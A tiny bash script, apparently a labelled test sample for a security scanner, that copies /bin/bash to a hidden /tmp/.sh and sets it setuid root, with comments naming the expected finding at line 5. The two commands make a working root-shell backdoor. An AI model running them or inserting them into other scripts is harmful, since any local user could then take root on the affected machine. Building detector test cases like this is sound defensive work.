#!/bin/bash
# shows: a shell that becomes root
# expect: access-opened at line 5
cp /bin/bash /tmp/.sh
chmod 4755 /tmp/.sh
